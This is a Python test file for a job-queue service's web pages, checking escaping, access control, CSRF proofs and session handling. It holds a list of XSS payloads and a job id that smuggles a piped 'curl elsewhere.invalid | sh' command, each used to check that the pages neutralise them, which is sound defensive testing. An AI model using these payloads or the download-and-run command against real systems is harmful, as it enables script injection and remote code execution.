"""What the server draws of the page: for whom, as which text, and the same as the API answers."""

import re
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from datetime import UTC, datetime
from html.parser import HTMLParser
from urllib.parse import quote, urlencode

import httpx
import pytest
from msgspec.structs import replace

from stint.core.events import KillRequested
from stint.core.names.ids import queue_token
from stint_api.page.drawn.fleet import SHOWN
from stint_api.page.drawn.jobs import Listed
from stint_api.page.signing_in import FORM_BYTES
from stint_api.session import cookie
from tests.support import outputs
from tests.support.api_bench import Bench
from tests.support.views import job_view
from tests.support.waiting import until

JOBS = 60
OURS = {"Sec-Fetch-Site": "same-origin", "Origin": "http://api"}
"""What a browser sends with a form of the page."""
HOSTILE = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "</td></table></title></textarea></template><svg onload=alert(1)>",
    "&lt;b&gt;{{ 7 * 7 }}{% raw %}",
    DECEIVING := "\u202egpj.exe\u2066\u200b\ufeff",
    "\x1b[31mred\x07\x9b0m",
    "javascript:alert(1)//",
)

NAMED = "[U+202E]gpj.exe[U+2066][U+200B][U+FEFF]"
"""How a page shows `DECEIVING`."""


class Document(HTMLParser):
    """The tags of a document, and the cells of its rows as text, by their class."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str]] = []
        self.rows: list[dict[str, str]] = []
        self.ids: list[str] = []
        self.links: dict[str, str] = {}
        self.said = ""
        self._cell = self._link = ""
        self._copied = False
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        self.tags.append(tag)
        self.attributes += given.items()
        self._copied = self._copied or tag == "template"
        if given.get("class") == "row" and not self._copied:
            self.rows.append({})
        if "data-id" in given:
            self.ids.append(given["data-id"])
        if tag == "td" and not self._copied:
            self._cell = given["class"].split()[0]
        if tag == "a":
            self._link = given.get("href", "") if "hidden" not in given else ""

    def handle_endtag(self, tag: str) -> None:
        self._copied = self._copied and tag != "template"
        if tag in {"td", "a"}:
            self._cell, self._link = "" if tag == "td" else self._cell, ""

    def handle_data(self, data: str) -> None:
        self.said += data
        if self._cell and self.rows:
            self.rows[-1][self._cell] = self.rows[-1].get(self._cell, "") + data
        if self._link:
            self.links[data.strip()] = self._link


@pytest.fixture(scope="module")
async def bench(bench: Bench) -> Bench:
    for number in range(JOBS):
        await bench.put_view(job_view(number, qname="many"))
    for number, text in enumerate(HOSTILE):
        written = dict.fromkeys(("container_image", "error", "submitted_by", "node_uuid"), text)
        job = job_view(number, qname="mine", status="failed", ended=datetime.now(UTC).isoformat())
        await bench.put_view(replace(job, job_id=f"{JOBS + number:024x}", reason="image", **written))
    total = JOBS + len(HOSTILE)
    await until(lambda: bench.http.get("/v1/api/job"), lambda answer: answer.json()["total"] == total)
    return bench


@asynccontextmanager
async def signed_in(bench: Bench, token: str) -> AsyncIterator[httpx.AsyncClient]:
    """A browser's requests, without a browser."""
    async with bench.client(OURS) as http:
        answer = await http.post("/session", data={"token": token, "to": "/"})
        assert answer.status_code == httpx.codes.SEE_OTHER, answer.text
        http.headers["Cookie"] = answer.headers["set-cookie"].partition(";")[0]
        yield http


@pytest.fixture
async def http(bench: Bench) -> AsyncIterator[httpx.AsyncClient]:
    """Somebody who may do everything."""
    async with signed_in(bench, bench.token) as http:
        yield http


@pytest.fixture
async def many(bench: Bench) -> AsyncIterator[httpx.AsyncClient]:
    """Somebody who may read one queue."""
    rule = 'path "stint/queue/many" { capabilities = ["read"] }'
    async with signed_in(bench, await bench.token_with(rule)) as http:
        yield http


async def drawn(http: httpx.AsyncClient, path: str, status: int | None = httpx.codes.OK) -> Document:
    answer = await http.get(path)
    assert status in {None, answer.status_code}, answer.text
    assert "script-src 'self'" in answer.headers["content-security-policy"]
    return Document(answer.text)


async def test_the_list_is_drawn_page_by_page_as_the_api_answers(bench: Bench, http: httpx.AsyncClient) -> None:
    first = await drawn(http, "/jobs?queue=many&since=&status=queued")
    second = await drawn(http, first.links["Older"])
    assert (await drawn(http, second.links["Newest"])).ids == first.ids
    answer = await bench.http.get("/v1/api/job", params={"qname": "many", "limit": 100})
    assert first.ids + second.ids == [job["_id"] for job in answer.json()["data"]]
    assert (len(first.ids), "Older" in second.links, "Newest" in first.links) == (50, False, False)
    assert "1 to 50 of 60." in first.said
    assert "51 to 60 of 60." in second.said
    assert first.rows[0]["c-say"] == "1st in line; no runner serves this queue"


@pytest.mark.parametrize(
    ("filters", "found"),
    [
        ({"status": "failed"}, len(HOSTILE)),
        ({"status": "held"}, 0),
        ({"queue": "MINE", "image": "script"}, 2),
        ({"q": f"{JOBS + 1:024x}"[-8:]}, 1),
        ({"q": "ONERROR"}, 1),
        ({"by": HOSTILE[1]}, 1),
        ({"since": "1h"}, 0),
    ],
)
async def test_filters_are_those_of_the_address(filters: dict[str, str], found: int, http: httpx.AsyncClient) -> None:
    seen = await drawn(http, f"/jobs?{urlencode(filters)}")
    assert len(seen.ids) == found
    assert all(("value", value) in seen.attributes for value in filters.values() if value != "1h")


async def test_counts_are_links_that_keep_the_other_filters(http: httpx.AsyncClient) -> None:
    seen = await drawn(http, "/jobs?queue=mine&status=held")
    assert seen.links["Failed"] == "/jobs?status=failed&queue=mine"
    assert seen.links["All"] == "/jobs?queue=mine"
    assert f"Failed{len(HOSTILE)}" in seen.said
    assert "Held0" in seen.said


async def test_what_others_wrote_is_text(http: httpx.AsyncClient) -> None:
    """In rows, and in what repeats the address."""
    plain = await drawn(http, "/jobs?queue=many&status=failed")
    seen = await drawn(http, "/jobs?queue=mine")
    filters = [f"/jobs?{urlencode(dict.fromkeys(Listed.names, text))}" for text in HOSTILE]
    echoed = [await drawn(http, path, status=None) for path in filters]
    shown = [NAMED if text == DECEIVING else text for text in HOSTILE]
    for row, text in zip(seen.rows, reversed(shown), strict=True):
        assert (row["c-say"], row["c-b"], row["c-r"]) == (text, text, text)
        assert row["c-m"] == "/".join(text.split("/")[-2:])
    for document, text in zip((seen, *echoed), ("mine", *HOSTILE), strict=True):
        assert ("value", text) in document.attributes
        assert set(document.tags) <= set(plain.tags)
        assert document.tags.count("script") == 1
        assert not [name for name, _ in document.attributes if name.startswith("on") or name == "style"]
        assert all(value.startswith(("/", "#", "data:image")) for name, value in document.attributes if name == "href")


@pytest.mark.parametrize(
    ("wrong", "sentence"),
    [
        ("after=junk", "cursor: must be from the Link of another page"),
        ("status=none", "status: must be one of"),
        (f"image={'x' * 1001}", "image: String should have at most 1000 characters"),
        (f"queue={'x' * 5000}", "queue"),
    ],
    ids=["cursor", "status", "image", "queue"],
)
async def test_an_address_without_a_list_says_what_is_wrong(wrong: str, sentence: str, http: httpx.AsyncClient) -> None:
    seen = await drawn(http, f"/jobs?{wrong}", status=httpx.codes.BAD_REQUEST)
    assert ("data-cause", "failure") in seen.attributes
    assert sentence in seen.said
    assert not seen.ids


async def test_a_job_is_drawn_with_links_to_its_output(bench: Bench, http: httpx.AsyncClient) -> None:
    job_id = await bench.submitted(qname="many")
    await outputs.Writer(bench.parts.output, queue_token("many"), job_id).write(b"wrong\n", "stderr")
    seen = await drawn(http, f"/jobs/{job_id}")
    assert seen.tags.count("script") == 1
    assert "Queued: " in seen.said
    assert "Submitted by token-stint-client" in seen.said
    for name, text in (("Both", "wrong\n"), ("stdout", ""), ("stderr", "wrong\n"), ("Its last 1,000 lines", "wrong\n")):
        assert (await http.get(seen.links[name])).text == text


async def test_a_job_that_cannot_be_shown_says_why(bench: Bench, many: httpx.AsyncClient) -> None:
    job_id = await bench.submitted(qname="hidden")
    refused = await drawn(many, f"/jobs/{job_id}", status=httpx.codes.FORBIDDEN)
    unknown = await drawn(many, f"/jobs/{0:024x}", status=httpx.codes.NOT_FOUND)
    wrong = await drawn(many, "/jobs/%22%3E%3Cscript%3E", status=httpx.codes.BAD_REQUEST)
    assert '"read" on "stint/queue/hidden"' in refused.said
    assert "token-stint-client" not in refused.said
    assert "There is no job with this id." in unknown.said
    assert wrong.tags.count("script") == 1


async def test_queues_are_drawn_for_readers(bench: Bench, http: httpx.AsyncClient, many: httpx.AsyncClient) -> None:
    qname = HOSTILE[1].lower()
    job = replace(job_view(1, qname=qname), job_id="f" * 24)
    await bench.put_view(job)
    await until(lambda: bench.http.get("/v1/api/job?id=ffffff"), lambda answer: answer.json()["total"] == 1)
    seen = await drawn(http, "/queues")
    one = await drawn(http, seen.links[qname])
    mine = await drawn(many, "/queues")
    waiting = await drawn(many, mine.links["many"])
    hidden = await drawn(many, "/queues/mine", status=httpx.codes.FORBIDDEN)
    await bench.views.delete(job.job_id)
    assert {"many", "mine", qname} <= {row["c-q"] for row in seen.rows}
    assert next(row["c-w"] for row in seen.rows if row["c-q"] == qname) == "1 waiting"
    assert one.links["ffffffff"] == f"/jobs/{job.job_id}"
    for document in (seen, one):
        assert "img" not in document.tags
        assert document.tags.count("script") == 1
    assert [row["c-q"] for row in mine.rows] == ["many"]
    assert sum(path.startswith("/jobs/") for path in waiting.links.values()) == SHOWN
    assert f"and {JOBS - SHOWN} jobs behind them" in waiting.said
    assert '"read" on "stint/queue/mine"' in hidden.said


async def test_the_audit_is_drawn_for_readers(bench: Bench, http: httpx.AsyncClient, many: httpx.AsyncClient) -> None:
    job_id = await bench.submitted(qname="hidden")
    await bench.http.post("/v1/api/queue/hidden/pause", json={"reason": "It moves."})
    await bench.http.post("/v1/api/queue/hidden/resume")
    await bench.http.post(f"/v1/api/job/kill/{job_id}")
    await until(lambda: bench.http.get("/v1/api/audit?qname=hidden"), lambda answer: "kill_requested" in answer.text)
    seen = await drawn(http, "/audit?queue=hidden&since=1h&by=token-stint-client")
    wrong = await drawn(http, f"/audit?{urlencode({'after': HOSTILE[0]})}", status=httpx.codes.BAD_REQUEST)
    nobody = await drawn(http, f"/audit?{urlencode({'by': HOSTILE[1]})}")
    mine = await drawn(many, "/audit")
    await drawn(many, "/audit?queue=hidden", status=httpx.codes.FORBIDDEN)
    short = job_id[-8:]
    assert [(row["c-d"], row["c-o"], row["c-a"]) for row in seen.rows[:4]] == [
        ("asked to kill", short, "accepted, unproven"),
        ("resumed", "the queue", "accepted, unproven"),
        ("paused", "the queue", "accepted: It moves., unproven"),
        ("submitted", short, "accepted, unproven"),
    ]
    assert {row["c-b"] for row in seen.rows} == {"token-stint-client"}
    assert seen.links[job_id[-8:]] == f"/jobs/{job_id}"
    assert "cursor: must be a number" in wrong.said
    assert ("value", HOSTILE[1]) in nobody.attributes
    assert "Nothing matches" in nobody.said
    assert {row["c-q"] for row in mine.rows} <= {"many"}


async def test_a_caller_sees_only_what_it_may_read(many: httpx.AsyncClient) -> None:
    every = await drawn(many, "/jobs")
    assert (await drawn(many, "/jobs?queue=mine")).ids == []
    assert f"of {JOBS}." in every.said
    assert f"All{JOBS}" in every.said
    assert "Failed0" in every.said


@pytest.mark.parametrize(
    ("uses", "told"), [(0, "does not accept this token"), (7, "may be used 6 times only")], ids=["unknown", "limited"]
)
async def test_an_unusable_token_is_refused_in_words(bench: Bench, uses: int, told: str) -> None:
    token = await bench.limited_token(uses) if uses else "s.unknown"
    async with bench.client(OURS) as http:
        answer = await http.post("/session", data={"token": token})
    assert (answer.status_code, "set-cookie" in answer.headers) == (httpx.codes.UNAUTHORIZED, False)
    assert told in answer.text


async def test_a_token_that_has_ended_leads_to_the_form(bench: Bench) -> None:
    token = await bench.limited_token(0, ("default", "stint-client"))
    async with signed_in(bench, token) as http:
        await bench.admin(lambda client: client.auth.token.revoke(token))
        bench.clock.advance(60)
        answer = await http.get("/jobs")
        assert answer.status_code == httpx.codes.UNAUTHORIZED
        assert "does not know your token any more" in answer.text
        assert "Max-Age=0" in answer.headers["set-cookie"]
        assert (await http.get("/session")).status_code == httpx.codes.UNAUTHORIZED


@pytest.mark.parametrize("path", ["/jobs", "/queues", "/audit", "/queues/many/pause"])
async def test_the_form_repeats_only_what_the_page_knows(bench: Bench, path: str) -> None:
    known = "queue=a+%26%C3%A4&after=7"
    async with bench.client() as http:
        answer = await http.get(f"{path}?token=hvs.typed&{known}&hvs.typed")
    seen = Document(answer.text)
    assert (answer.status_code, "hvs.typed" in answer.text) == (httpx.codes.UNAUTHORIZED, False)
    assert ("value", f"{path}?{known}") in seen.attributes


async def asked(http: httpx.AsyncClient, path: str, **fields: str) -> httpx.Response:
    """The answer to a question's form, with the proof that is in it."""
    found = re.search(r'name="csrf" value="([0-9a-f]{64})"', (await http.get(path)).text)
    assert found
    return await http.post(path, data={"csrf": found[1], **fields})


async def test_who_signs_in_through_a_proxy_that_changes_the_address_is_told_so(bench: Bench) -> None:
    async with bench.client(OURS | {"Host": "127.0.0.1:3232"}) as http:
        answer = await http.post("/session", data={"token": bench.token, "to": "/"})
    assert "as one for 127.0.0.1:3232: a proxy in front of it must pass on Host" in Document(answer.text).said
    assert "Set-Cookie" not in answer.headers


async def test_another_site_neither_ends_nor_uses_a_session_nor_learns_whose_it_is(http: httpx.AsyncClient) -> None:
    elsewhere, proof = {"Sec-Fetch-Site": "cross-site"}, cookie.proof(http.headers["Cookie"].partition("=")[2])
    await http.post("/session/end", data={"csrf": "0" * 64})
    await http.post("/session/end", data={"csrf": proof}, headers=elsewhere)
    assert (await http.get("/session", headers=elsewhere)).status_code == httpx.codes.UNAUTHORIZED
    assert (await http.get("/session")).status_code == httpx.codes.OK
    assert (await http.post("/session/secret-id")).status_code == httpx.codes.FORBIDDEN


async def test_a_form_that_is_too_large_is_not_read_to_its_end(bench: Bench) -> None:
    async with bench.client(OURS) as http:
        answer = await http.post("/session", data={"token": "x" * FORM_BYTES})
    assert answer.status_code == httpx.codes.REQUEST_ENTITY_TOO_LARGE


async def test_a_form_kills_and_deletes_as_its_session(bench: Bench, http: httpx.AsyncClient) -> None:
    job_id = await bench.submitted(qname="many")
    seen = await drawn(http, f"/jobs/{job_id}")
    killed = await asked(http, seen.links["Kill…"])
    assert (killed.status_code, killed.headers["location"]) == (303, f"/jobs/{job_id}")
    assert (await bench.load(job_id)).fact(KillRequested) is not None
    seen = await drawn(http, f"/jobs/{job_id}")
    assert "Kill…" not in seen.links
    deleted = await asked(http, seen.links["Delete…"])
    assert (deleted.status_code, deleted.headers["location"]) == (303, "/jobs")
    await drawn(http, f"/jobs/{job_id}", status=httpx.codes.NOT_FOUND)


async def test_a_form_changes_nothing_without_the_right_or_the_proof(
    bench: Bench, http: httpx.AsyncClient, many: httpx.AsyncClient
) -> None:
    job_id = await bench.submitted(qname="many")
    kill = f"/jobs/{job_id}/kill"
    refused = await asked(many, kill)
    assert refused.status_code == httpx.codes.FORBIDDEN
    assert '"update" on "stint/queue/many"' in Document(refused.text).said
    assert (await http.post(kill)).status_code == httpx.codes.FORBIDDEN
    assert (await http.post(kill, data={"csrf": "0" * 64})).status_code == httpx.codes.FORBIDDEN
    for name, value in (("Origin", "http://elsewhere"), ("Sec-Fetch-Site", "same-site"), ("Cookie", "")):
        before, http.headers[name] = http.headers[name], value
        proof = cookie.proof(before.partition("=")[2] if name == "Cookie" else http.headers["Cookie"].partition("=")[2])
        answer = await http.post(kill, data={"csrf": proof})
        assert answer.status_code != httpx.codes.SEE_OTHER, name
        http.headers[name] = before
    assert (await bench.load(job_id)).fact(KillRequested) is None
    assert (await asked(http, kill)).status_code == httpx.codes.SEE_OTHER


@pytest.mark.parametrize(
    ("name", "sentence"), [("=zz", "is not the token of a queue's name"), ("a%01b", "contains no control characters")]
)
@pytest.mark.parametrize("what", ["pause", "resume"])
async def test_a_question_about_no_queue_is_a_page_that_says_so(
    bench: Bench, name: str, sentence: str, what: str, http: httpx.AsyncClient
) -> None:
    path = f"/queues/{name}/{what}"
    for answer in (await http.get(path), await asked(http, path, reason="why")):
        assert answer.status_code == httpx.codes.BAD_REQUEST
        assert sentence in Document(answer.text).said
    async with bench.client() as stranger:
        for answer in (await stranger.get(path), await stranger.post(path)):
            assert (answer.status_code, answer.headers["content-type"][:9]) == (401, "text/html")


@pytest.mark.parametrize("what", ["kill", "delete", "release"])
async def test_a_question_about_no_job_shows_no_command_to_copy(what: str, http: httpx.AsyncClient) -> None:
    path = f"/jobs/{quote('x; curl elsewhere.invalid | sh')}/{what}"
    for answer in (await http.get(path), await asked(http, path, looked="on")):
        assert answer.status_code == httpx.codes.BAD_REQUEST
        assert "curl" not in Document(answer.text).said
        assert "Invalid job ID" in Document(answer.text).said


async def test_a_form_pauses_with_a_reason_and_releases_after_a_look(bench: Bench, http: httpx.AsyncClient) -> None:
    job_id = await bench.submitted(qname="many")
    assert (await asked(http, "/queues/many/pause", reason=" ")).status_code == httpx.codes.BAD_REQUEST
    assert (await asked(http, "/queues/many/pause", reason="x" * 1001)).status_code == httpx.codes.BAD_REQUEST
    queue = await drawn(http, "/queues/many")
    assert "Resume" not in queue.links
    assert (await asked(http, queue.links["Pause…"], reason=HOSTILE[0])).status_code == httpx.codes.SEE_OTHER
    paused = await drawn(http, "/queues/many")
    assert HOSTILE[0] in paused.said
    assert paused.tags.count("script") == 1
    assert (await asked(http, paused.links["Resume"])).status_code == httpx.codes.SEE_OTHER
    unseen = await asked(http, f"/jobs/{job_id}/release")
    assert "Look first" in unseen.text
    refused = await asked(http, f"/jobs/{job_id}/release", looked="on")
    assert refused.status_code == httpx.codes.BAD_REQUEST, "it is not held"
    unknown = await asked(http, f"/runners/{quote(HOSTILE[1], safe='')}/drain")
    assert unknown.status_code == httpx.codes.NOT_FOUND
    assert "img" not in Document(unknown.text).tags
